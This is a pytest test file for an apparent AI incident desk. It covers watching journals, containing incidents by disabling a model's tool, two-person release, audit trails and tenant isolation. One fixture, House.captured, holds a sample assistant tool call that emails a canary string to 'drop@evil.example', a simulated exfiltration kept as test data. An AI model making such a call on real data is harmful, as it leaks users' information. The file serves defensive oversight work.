"""The desk over a real store: journals are watched once, people's acts are recorded with their names, tenants don't meet."""

import json
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import msgspec
import pytest
from incidents.support import HOUR_US, NOW_US, decision
from sqlalchemy import select

from fairlead.core import Decision, NotFound, Segment, UsageError, canonical_bytes
from fairlead.evals.records import list_cases
from fairlead.guard import Lever, LeversGone, begin_levers, read_levers
from fairlead.identity import Actor, PermissionRefused
from fairlead.incidents import (
    CaptureMissing,
    Complaint,
    Containing,
    Incident,
    IncidentDesk,
    IncidentNotFound,
    IncidentState,
    LeverFile,
    ProbeResult,
    Programme,
    SecondPersonNeeded,
    watch,
)
from fairlead.incidents.records import LedgerNotary, SqlCaptures, SqlIncidents
from fairlead.journal import Journal, Record, Sealer
from fairlead.ledger import ephemeral_key
from fairlead.ledger.records import Ledger
from fairlead.monitor import Alert
from fairlead.store import Store, fold, metadata
from fairlead.store import records as store_records
from fairlead.testing import FixedClock

CANARY = "canary-7f3a"
ALICE = Actor(id="acc_alice", tenant="t1", roles=("incident_commander",))
BOB = Actor(id="acc_bob", tenant="t1", roles=("incident_commander",))
ENGINEER = Actor(id="acc_eve", tenant="t1", roles=("engineer",))
AUDITOR = Actor(id="acc_ann", tenant="t1", roles=("auditor",))
STRANGER = Actor(id="acc_zed", tenant="t2", roles=("incident_commander",))


class Workers:
    """Workers that obey, or not, as the test says."""

    def __init__(self, **obey: bool) -> None:
        self.obey = obey

    def workers(self) -> tuple[str, ...]:
        return tuple(self.obey)

    def probe(self, worker: str, _lever: Lever) -> ProbeResult:
        return ProbeResult(worker=worker, effective=self.obey[worker], exchange="x_probe")


class House:
    """A data folder with a journal, a store and a desk."""

    def __init__(self, folder: Path, store: Store) -> None:
        self.folder, self.store, self.clock = folder, store, FixedClock(NOW_US + 1_000_000)
        self.sealer = Sealer.open(folder / "config")
        self.records = SqlIncidents(store)
        self.workers = Workers(**{"worker-0": True, "worker-1": True})
        self.desk = IncidentDesk(
            self.records,
            Containing(LeverFile(folder / "levers.json", folder / "journal"), self.workers, self.clock),
            captures=SqlCaptures(store, self.sealer, self.clock),
            notary=LedgerNotary(Ledger(store, ephemeral_key(), self.clock)),
            cases=folder / "cases",
            clock=self.clock,
        )

    def write(self, *decisions: Decision, worker: str = "worker-0", captures: Sequence[Record] = ()) -> None:
        begin_levers(self.folder / "levers.json", served=False)
        journal = Journal.open(self.folder / "journal" / f"{worker}.db", strict=True, clock=self.clock)
        journal.commit([*captures, *(Record(kind="decision", id=each.id, body=canonical_bytes(each)) for each in decisions)])
        journal.close()

    def watch(self) -> tuple[Incident, ...]:
        return watch(self.folder / "journal", self.records, lambda _: Programme((), "support-platform"), clock=self.clock)

    def attacked(self, *, capture: str = "") -> Incident:
        attack = decision(capture=capture)
        captures = [self.captured(capture)] if capture else []
        self.write(attack, captures=captures)
        fold(self.store, self.folder / "journal", clock=self.clock)
        (incident,) = self.watch()
        return incident

    def captured(self, capture: str) -> Record:
        said = Segment(path="/messages/0/content", origin="user", stage="input", text=f"{CANARY} how do I return a lamp?")
        arguments = json.dumps({"to": "drop@evil.example", "body": CANARY})
        called = Segment(path="/c", origin="model", stage="tool_call", text=arguments, tool="send_email")
        content = canonical_bytes({"exchange": "x_1", "segments": [said, called]})
        return Record(kind="capture", id=capture, body=self.sealer.seal(capture, "t1", content))

    def audit(self, tenant: str = "t1") -> list[tuple[str, str, str]]:
        with self.store.read() as connection:
            return [(entry.actor, entry.action, entry.target) for entry in store_records.audit_trail(connection, tenant)]


@pytest.fixture
def house(tmp_path: Path, store: Store) -> House:
    return House(tmp_path, store)


def test_each_decision_is_looked_at_once_over_all_journals(house: House) -> None:
    house.write(decision("d_1"), decision("d_0", hazard="pii"))
    house.write(decision("d_2"), worker="worker-1")
    (incident,) = house.watch()
    assert house.watch() == ()
    house.write(decision("d_3"))
    assert house.watch() == ()
    (stored,) = house.desk.incidents("t1")
    assert stored.id == incident.id
    assert (stored.seen, stored.decisions) == (3, ("d_1", "d_2", "d_3"))
    assert [line.kind for line in house.desk.open("t1", incident.id).events] == ["opened", "seen", "seen"]


def test_one_cause_gives_one_alert_without_content(house: House) -> None:
    house.write(decision("d_1"), decision("d_2"))
    alerts: list[Alert] = []
    (incident,) = watch(house.folder / "journal", house.records, lambda _: Programme((), "o"), clock=house.clock, alerts=alerts.append)
    assert [(alert.subject, alert.severity, alert.title) for alert in alerts] == [(incident.id, "P1", incident.title)]


def test_a_step_that_fails_moves_nothing(house: House) -> None:
    house.write(decision("d_1"))

    def broken(_decision: Decision) -> Programme:
        raise NotFound("the policy of this release is gone")

    with pytest.raises(NotFound):
        watch(house.folder / "journal", house.records, broken, clock=house.clock)
    assert len(house.watch()) == 1


def test_two_watchers_open_one_incident(house: House) -> None:
    house.write(*(decision(f"d_{number}") for number in range(20)))
    with ThreadPoolExecutor(2) as pool:
        opened = [incident for found in pool.map(lambda _: house.watch(), range(2)) for incident in found]
    assert len(opened) == 1
    (stored,) = house.desk.incidents("t1")
    assert stored.seen == 20


def test_containment_is_recorded_audited_and_attested(house: House) -> None:
    incident = house.attacked()
    house.clock.advance(60_000_000)
    containment = house.desk.contain("t1", incident.id, ("tool", "send_email"), actor=ALICE, reason="mail leaves the company")
    assert containment.effective
    file = house.desk.open("t1", incident.id)
    assert (file.incident.status, file.incident.contain_us) == ("contained", 60_000_000)
    assert [line.kind for line in file.events] == ["opened", "lever_pulled", "contained"]
    assert file.events[-1].containment == containment
    assert [lever.target for lever in file.levers] == ["send_email"]
    assert ("acc_alice", "incident.lever_pulled", incident.id) in house.audit()
    assert ("acc_alice", "incident.contained", incident.id) in house.audit()
    (entry,) = Ledger(house.store, ephemeral_key(), house.clock).entries("t1")
    assert (entry.kind, entry.subject, entry.outcome) == ("containment", containment.lever.id, "contained")


def test_it_stays_open_and_says_which_worker_failed(house: House) -> None:
    incident = house.attacked()
    house.workers.obey["worker-1"] = False
    assert not house.desk.contain("t1", incident.id, ("tool", "send_email"), actor=ALICE, reason="stop").effective
    file = house.desk.open("t1", incident.id)
    assert file.incident.status == "open"
    assert "worker-1" in file.events[-1].text
    assert file.levers
    house.workers.obey["worker-1"] = True
    assert house.desk.contain("t1", incident.id, ("tool", "send_email"), actor=BOB, reason="again").effective
    assert house.desk.open("t1", incident.id).incident.status == "contained"
    assert len(read_levers(house.folder / "levers.json")) == 1


def test_release_takes_a_second_person_and_then_it_closes(house: House) -> None:
    incident = house.attacked()
    lever = house.desk.contain("t1", incident.id, ("tool", "send_email"), actor=ALICE, reason="stop").lever
    with pytest.raises(IncidentState):
        house.desk.close("t1", incident.id, actor=BOB, reason="done")
    with pytest.raises(SecondPersonNeeded):
        house.desk.release("t1", incident.id, lever.id, actor=ALICE, reason="fixed")
    assert house.desk.release("t1", incident.id, lever.id, actor=BOB, reason="fixed").status == "resolved"
    assert read_levers(house.folder / "levers.json") == ()
    assert house.desk.close("t1", incident.id, actor=BOB, reason="done").status == "closed"
    assert house.desk.incidents("t1", status="open") == ()
    assert [actor for actor, action, _ in house.audit() if action == "incident.lever_released"] == ["acc_bob"]


def test_a_contained_incident_that_happens_again_is_open_again(house: House) -> None:
    incident = house.attacked()
    house.desk.contain("t1", incident.id, ("tool", "send_email"), actor=ALICE, reason="stop")
    house.clock.advance(HOUR_US)
    house.write(decision("d_late", at_us=house.clock.now_us()))
    house.watch()
    assert house.desk.open("t1", incident.id).incident.status == "open"


def test_a_case_is_made_without_being_shown(house: House) -> None:
    incident = house.attacked(capture="cap_1")
    made = house.desk.to_case("t1", incident.id, actor=ENGINEER, reason="keep it from coming back")
    again = house.desk.to_case("t1", incident.id, actor=ALICE, reason="twice is once")
    assert (again.case, again.case_digest) == (made.case, made.case_digest)
    (path,) = (house.folder / "cases").iterdir()
    assert CANARY in path.read_text()
    with house.store.read() as connection:
        (noted,) = list_cases(connection, "t1", incident=incident.id)
        kept = [str(row) for table in metadata.sorted_tables for row in connection.execute(select(table))]
    assert noted.digest == made.case_digest
    assert not [row for row in kept if CANARY in row]
    assert CANARY not in canonical_bytes(made).decode() + canonical_bytes(house.desk.open("t1", incident.id)).decode()
    assert ("acc_eve", "capture.unseal", "cap_1") in house.audit()
    assert ("acc_eve", "incident.case_made", incident.id) in house.audit()


def test_without_a_capture_the_setting_that_would_keep_one_is_named(house: House) -> None:
    incident = house.attacked()
    with pytest.raises(CaptureMissing, match="capture: sealed_on_finding"):
        house.desk.to_case("t1", incident.id, actor=ENGINEER, reason="keep it")


def test_every_act_needs_its_role_a_reason_and_its_own_tenant(house: House) -> None:
    incident = house.attacked(capture="cap_1")
    acts: list[Callable[[Actor, str], object]] = [
        lambda actor, reason: house.desk.contain("t1", incident.id, ("tool", "send_email"), actor=actor, reason=reason),
        lambda actor, reason: house.desk.release("t1", incident.id, "lev_1", actor=actor, reason=reason),
        lambda actor, reason: house.desk.close("t1", incident.id, actor=actor, reason=reason),
        lambda actor, reason: house.desk.to_case("t1", incident.id, actor=actor, reason=reason),
    ]
    for act in acts:
        for actor in (AUDITOR, STRANGER):
            with pytest.raises(PermissionRefused):
                act(actor, "because")
        with pytest.raises(UsageError):
            act(ALICE, " ")
    assert read_levers(house.folder / "levers.json") == ()
    assert house.desk.open("t1", incident.id).events[1:] == ()


def test_another_tenant_sees_nothing(house: House) -> None:
    incident = house.attacked(capture="cap_1")
    assert house.desk.incidents("t2") == ()
    assert house.records.events("t2", incident.id) == ()
    assert house.records.captures("t2", incident.decisions) == ()
    for look in (
        lambda: house.desk.open("t2", incident.id),
        lambda: house.desk.close("t2", incident.id, actor=STRANGER, reason="mine"),
        lambda: house.desk.contain("t2", incident.id, ("tool", "send_email"), actor=STRANGER, reason="mine"),
    ):
        with pytest.raises(IncidentNotFound):
            look()


def test_a_complaint_joins_its_incident(house: House) -> None:
    incident = house.attacked()
    complaint = Complaint(
        id="cmp_1",
        tenant="t1",
        system="assistant",
        kind="harm",
        exchange="x_1",
        summary="a customer reports mail",
        filed_by="acc_eve",
        filed_us=NOW_US,
        incident=incident.id,
    )
    house.desk.complain(complaint)
    assert house.records.complaints("t1") == (complaint,)
    assert house.records.complaints("t2") == ()
    assert house.desk.open("t1", incident.id).events[-1].subject == "cmp_1"
    with pytest.raises(IncidentNotFound):
        house.desk.complain(msgspec.structs.replace(complaint, id="cmp_2", tenant="t2"))


def test_no_lever_is_pulled_or_released_while_the_lever_file_is_gone(house: House) -> None:
    incident = house.attacked()
    (house.folder / "levers.json").unlink()
    with pytest.raises(LeversGone):
        house.desk.contain("t1", incident.id, ("tool", "send_email"), actor=ALICE, reason="stop")
    assert not (house.folder / "levers.json").exists()
